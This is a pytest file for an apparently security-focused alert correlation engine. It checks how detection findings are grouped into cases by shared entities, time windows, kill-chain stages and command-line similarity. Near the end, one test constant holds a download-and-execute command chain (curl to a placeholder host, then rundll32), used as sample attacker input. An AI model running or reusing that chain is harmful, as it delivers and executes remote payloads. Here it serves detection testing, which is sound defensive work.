"""Findings that belong together make one case; coincidence does not."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.triage.build import finding, one_case
from watchfloor.core.case import Case
from watchfloor.core.context import Asset, Company, Context, Identity
from watchfloor.core.finding import Finding, Severity
from watchfloor.core.policy import CorrelationPolicy
from watchfloor.core.similarity import signature
from watchfloor.triage.correlation import correlate

POLICY = CorrelationPolicy()
DAY = 24 * 60


def cases(findings: list[Finding], context: Context | None = None) -> list[Case]:
    return correlate(findings, context or Context(), POLICY)


def groups(findings: list[Finding], context: Context | None = None) -> list[set[str]]:
    return [set(c.findings) for c in cases(findings, context)]


def noise(count: int, seed: int = 1, hosts: int = 400) -> list[Finding]:
    """Findings of a company: hosts with their users, a few common addresses, forty rules over ten days."""
    rng = random.Random(seed)
    found = []
    for number in range(count):
        host = rng.randrange(hosts)
        found.append(
            finding(
                number,
                f"host:ws-{host}:target",
                f"user:u{host}:actor",
                f"address:192.0.2.{rng.randrange(20)}:destination",
                minute=rng.random() * DAY * 10,
                rule=f"r{int(rng.paretovariate(1.0)) % 40}",
                tactics=[rng.choice(["execution", "discovery", "persistence"])],
            )
        )
    return found


def test_one_actor_in_time_is_one_case_with_a_reason() -> None:
    case = one_case(
        [
            finding(1, "user:alice:actor", "host:ws-17:target", rule="mail", severity=Severity.low),
            finding(2, "user:alice:actor", "host:ws-17:target", minute=9, rule="shell", severity=Severity.high),
        ]
    )
    assert case.title == "Rule shell and 1 more on ws-17 (alice)"
    assert case.severity is Severity.high
    (link,) = case.links
    assert (link.finding, link.other, link.because) == ("f-000002", "f-000001", "entity")
    assert "user:alice" in link.sentence
    assert "9 min apart" in link.sentence


def test_different_actors_stay_apart() -> None:
    apart = [finding(n, f"user:u{n}:actor", f"host:h{n}:target", rule=f"r{n}") for n in range(5)]
    assert len(groups(apart)) == 5


def test_entities_are_resolved_before_they_are_compared() -> None:
    context = Context(
        identities=(Identity(user="alice", mail="alice@corp.example", aliases=("CORP\\al",)),),
        assets=(Asset(host="WS-17", addresses=("10.0.0.17",)),),
    )
    findings = [
        finding(1, "mailbox:alice@corp.example:target", "address:10.0.0.17:source", rule="a"),
        finding(2, "user:al:actor", "host:ws-17.corp.example:target", minute=5, rule="b"),
    ]
    (case,) = cases(findings, context)
    assert {i.entity.key for i in case.involved} == {"user:alice", "host:ws-17"}


def test_a_thread_joins_what_shares_no_entity() -> None:
    findings = [
        finding(1, "host:a:target", rule="x", thread=["guid-1"]),
        finding(2, "host:b:target", rule="y", minute=300, thread=["guid-1"]),
        finding(3, "host:c:target", rule="z", minute=300, thread=["guid-2"]),
    ]
    assert groups(findings) == [{"f-000001", "f-000002"}, {"f-000003"}]
    assert cases(findings)[0].links[0].because == "thread"


def test_a_later_stage_by_the_same_actor_joins_where_the_entity_alone_would_not() -> None:
    def pair(first: str, second: str) -> list[Finding]:
        return [
            finding(1, "address:198.51.100.9:source", "host:h1:target", rule="a", tactics=[first]),
            finding(2, "address:198.51.100.9:source", "host:h2:target", minute=1300, rule="b", tactics=[second]),
        ]

    assert len(cases(pair("TA0001", "TA0040"))) == 1
    assert cases(pair("initial-access", "attack.impact"))[0].links[0].because == "kill_chain"
    assert len(cases(pair("impact", "initial-access"))) == 2


def test_beyond_the_window_nothing_joins() -> None:
    entities = ("user:alice:actor", "host:ws-17:target")
    findings = [finding(1, *entities, rule="a"), finding(2, *entities, rule="b", minute=25 * 60)]
    assert len(groups(findings)) == 2


def test_repeated_noise_is_one_case_an_entity_and_window() -> None:
    repeated = [finding(n, "host:ws-1:target", minute=n) for n in range(500)]
    (case,) = cases(repeated)
    assert len(case.findings) == 500
    assert case.title == "Rule r1, 500 times on ws-1"
    longer = [finding(n, "host:ws-1:target", minute=n * 10) for n in range(500)]
    assert [len(c.findings) for c in cases(longer)] == [145, 145, 145, 65]


def test_a_spraying_address_is_one_case() -> None:
    spray = [
        finding(n, f"user:u{n}:actor", "address:198.51.100.66:source", minute=n / 10, layer="identity")
        for n in range(200)
    ]
    assert len(cases(spray)) == 1


def test_a_hub_ties_nothing() -> None:
    """A proxy that stands in everybody's findings does not make one case of the company."""
    hub = [
        finding(n, f"user:u{n}:actor", f"host:h{n}:target", "address:10.0.0.1:destination", minute=n, rule=f"r{n}")
        for n in range(60)
    ]
    assert len(cases(hub)) == 60


def test_one_host_with_many_findings_is_no_hub() -> None:
    findings = [finding(n, "host:ws-1:target", "user:al:actor", minute=n, rule=f"r{n}") for n in range(60)]
    assert len(cases(findings)) == 1


def _on_a_web_server(severity: Severity) -> list[Finding]:
    """Two hundred clients with one failed request each, and two further findings of this severity."""
    clients = [
        finding(n, "host:web01:target", f"address:198.51.100.{n}:source", minute=n, rule=f"r{n % 40}")
        for n in range(200)
    ]
    pair = {"rule": "upload", "severity": severity}, {"rule": "shell", "severity": severity}
    return [
        *clients,
        finding(900, "host:web01:target", "address:203.0.113.9:source", minute=100, **pair[0]),
        finding(901, "host:web01:target", "process:p1:related", minute=110, **pair[1]),
    ]


@pytest.mark.parametrize(("severity", "together"), [(Severity.low, False), (Severity.high, True)])
def test_severe_findings_on_a_busy_server_belong_together(severity: Severity, together: bool) -> None:
    """How common an entity is counts among findings as severe as the milder of the two."""
    found = groups(_on_a_web_server(severity))
    assert any({"f-000900", "f-000901"} <= case for case in found) is together


def test_what_a_known_scanner_sets_off_does_not_make_its_targets_common() -> None:
    scans = [
        finding(n, "host:scan01:source", "host:web01:target", f"url:/u{n}:destination", minute=n, rule=f"s{n}",
                severity=Severity.high)
        for n in range(200)
    ]  # fmt: skip
    findings = [*scans, *_on_a_web_server(Severity.high)[-2:]]
    told = Context(assets=(Asset(host="scan01", tags=("scanner",)),))
    assert not any({"f-000900", "f-000901"} <= case for case in groups(findings))
    assert any({"f-000900", "f-000901"} <= case for case in groups(findings, told))


@pytest.mark.parametrize("shared", ["address:192.0.2.10:source", "user:system:actor", "host:scan01:source"])
def test_egress_built_in_principals_and_scanners_tie_nothing(shared: str) -> None:
    context = Context(
        company=Company(egress_addresses=("192.0.2.0/28", "no network")),
        assets=(Asset(host="scan01", tags=("scanner",)),),
    )
    findings = [finding(n, f"host:h{n}:target", shared, minute=n, rule=f"r{n}") for n in range(4)]
    assert len(cases(findings, context)) == 4


def test_a_sensor_is_not_where_it_happened() -> None:
    findings = [
        finding(n, "host:sensor01:target", f"address:10.0.0.{n}:source", minute=n, rule=f"r{n}", layer="network")
        for n in range(4)
    ]
    found = cases(findings)
    assert [c.title for c in found] == [f"Rule r{n} at 10.0.0.{n}" for n in range(4)]


def test_a_chain_of_weak_ties_does_not_swallow_the_company() -> None:
    """u0-h0, h0-u1, u1-h1, ...: each neighbour shares one entity, the ends share nothing."""
    chain = []
    for n in range(80):
        user, host = (n + 1) // 2, n // 2
        chain.append(finding(n, f"user:u{user}:actor", f"host:h{host}:target", minute=n * 5, rule=f"r{n}"))
    found = cases(chain)
    assert max(len(c.findings) for c in found) <= 10
    assert any(c.related for c in found)


def test_what_nearly_joins_is_related_both_ways() -> None:
    findings = [
        finding(1, "host:h1:target", "domain:x.example:destination", rule="a"),
        finding(2, "host:h2:target", "domain:x.example:destination", rule="b", minute=5),
    ]
    first, second = cases(findings)
    assert first.related == (second.uid,)
    assert second.related == (first.uid,)


def test_what_is_hardly_tied_is_not_related() -> None:
    """An address that many share says nearly nothing: such a case must not be kept open by its neighbour."""
    many = [
        finding(
            n,
            f"user:u{n}:actor",
            f"host:h{n}:target",
            f"file:f{n}:related",
            "domain:x.example:destination",
            rule=f"r{n}",
        )
        for n in range(20)
    ]
    assert [c.related for c in cases(many)] == [()] * 20


def test_tenants_never_mix() -> None:
    findings = [
        finding(1, "host:h:target"),
        finding(2, "host:h:target", minute=1, tenant="other"),
    ]
    assert [c.tenant for c in cases(findings)] == ["acme", "other"]


def test_a_case_keeps_its_uid_as_it_grows() -> None:
    first = [finding(1, "host:h:target", "user:a:actor")]
    grown = [*first, finding(2, "host:h:target", "user:a:actor", minute=3, rule="b")]
    assert cases(first)[0].uid == cases(grown)[0].uid


def test_the_class_is_that_of_the_most_severe_then_rarest_finding() -> None:
    findings = [finding(n, "host:h:target", rule="common", severity=Severity.high, minute=n) for n in range(5)]
    rare = finding(9, "host:h:target", rule="rare", severity=Severity.high, minute=9)
    rare = rare.model_copy(update={"detection": rare.detection.model_copy(update={"family": "suricata/c2"})})
    assert one_case([*findings, rare]).detection_class == "suricata/c2 @ sysmon"


@settings(deadline=None, max_examples=50)
@given(st.integers(0, 10_000), st.randoms(use_true_random=False))
def test_the_order_of_findings_does_not_matter(seed: int, rng: random.Random) -> None:
    findings = noise(60, seed=seed, hosts=8)
    shuffled = list(findings)
    rng.shuffle(shuffled)
    expected = cases(findings)
    assert cases(shuffled) == expected
    assert sorted(u for c in expected for u in c.findings) == sorted(f.uid for f in findings)


def test_twenty_thousand_findings_stay_apart() -> None:
    found = cases(noise(20_000))
    assert sum(len(c.findings) for c in found) == 20_000
    assert max(len(c.findings) for c in found) < 200


def test_an_alert_of_a_sensor_that_names_only_a_host_is_about_the_host() -> None:
    scan = [
        finding(n, "host:mail:target", minute=n, rule=f"r{n}", severity=Severity.medium, layer="network")
        for n in range(3)
    ]
    (case,) = cases(scan)
    assert case.title.endswith("on mail")


def test_what_comes_up_all_day_draws_nothing_into_its_case() -> None:
    routine = [
        finding(n, "host:mail:target", minute=20 * n, rule="sign-in", severity=Severity.low) for n in range(3 * 72)
    ]
    attack = [
        finding(500 + n, "host:mail:target", minute=DAY + 605 + n, rule=f"odd {n}", severity=Severity.medium)
        for n in range(3)
    ]
    found = groups([*routine, *attack])
    assert {one.uid for one in attack} in found
    assert len(found) == 4


def test_a_repetition_that_rested_does_not_reach_from_the_morning_to_the_evening() -> None:
    morning = [finding(n, "host:web:target", minute=n, rule=r, severity=Severity.low) for n, r in enumerate("ab")]
    evening = [
        finding(9 + n, "host:web:target", minute=660 + n, rule=r, severity=Severity.low) for n, r in enumerate("ac")
    ]
    assert groups([*morning, *evening]) == [{one.uid for one in morning}, {one.uid for one in evening}]


def test_a_severe_detection_that_goes_on_all_day_still_ties() -> None:
    beacon = [finding(n, "host:ws-17:target", minute=20 * n, rule="c2", severity=Severity.high) for n in range(70)]
    dump = finding(500, "host:ws-17:target", minute=700, rule="dump", severity=Severity.high)
    assert len(groups([*beacon, dump])) == 1


def test_an_address_that_other_people_on_other_machines_share_relates_and_does_not_join() -> None:
    """It may be the way out of a whole house; when one person or one machine is the same, it adds to that."""

    def pair(second_user: str, second_host: str) -> list[Case]:
        shared = "address:198.51.100.9:source"
        first = finding(1, "user:alice:actor", "host:ws-1:target", shared, rule="a", tactics=["execution"])
        return cases(
            [
                first,
                finding(2, f"user:{second_user}:actor", f"host:{second_host}:target", shared, minute=9, rule="b",
                        tactics=["impact"]),
            ]
        )  # fmt: skip

    one, other = pair("bob", "ws-2")
    assert one.related == (other.uid,)
    assert len(pair("alice", "ws-2")) == len(pair("bob", "ws-1")) == 1


def test_a_process_in_two_findings_joins_them_and_many_processes_make_no_host_common() -> None:
    lineage = [
        finding(1, "host:h1:target", "process:h1/7@t:related", rule="parent"),
        finding(2, "host:h2:target", "process:h1/7@t:related", minute=300, rule="child"),
    ]
    assert len(cases(lineage)) == 1
    busy = [
        finding(n, "host:h1:target", *(f"process:h1/{n}{m}@t:related" for m in range(9)), minute=n, rule=f"r{n}")
        for n in range(4)
    ]
    assert len(cases(busy)) == 1


COMMAND = "cmd.exe /c ping -n {n} 203.0.113.{n} && curl -s http://{n}.example/a -o C:\\temp\\{n}.dat && rundll32 x,Run"


def _ran(number: int, command: str, *entities: str) -> Finding:
    signed = f"command:{signature(command)}"
    return finding(number, *entities, minute=number, rule=f"r{number}").model_copy(update={"likeness": (signed,)})


def test_command_lines_of_one_making_relate_and_say_how_alike_they_are() -> None:
    one = _ran(1, COMMAND.format(n=1), "host:h1:target")
    other = _ran(2, COMMAND.format(n=77), "host:h2:target")
    unlike = _ran(
        3, "powershell -file C:\\it\\inventory.ps1 -site berlin -report all -to share -as text", "host:h3:target"
    )
    first, second, third = cases([one, other, unlike])
    (relation,) = first.relations
    assert (relation.because, relation.case) == ("campaign", second.uid)
    assert "Their command lines are of one making (" in relation.sentence
    assert 0.6 < relation.strength < 1.0
    assert third.related == ()


def test_what_is_of_one_making_adds_to_what_is_shared() -> None:
    shared = "domain:x.example:destination"
    apart = cases([finding(1, "host:h1:target", shared), finding(2, "host:h2:target", shared, minute=2, rule="r2")])
    assert len(apart) == 2
    one, other = (_ran(n, COMMAND.format(n=n), f"host:h{n}:target", shared) for n in (1, 2))
    (case,) = cases([one, other])
    assert "of one making" in case.links[0].sentence
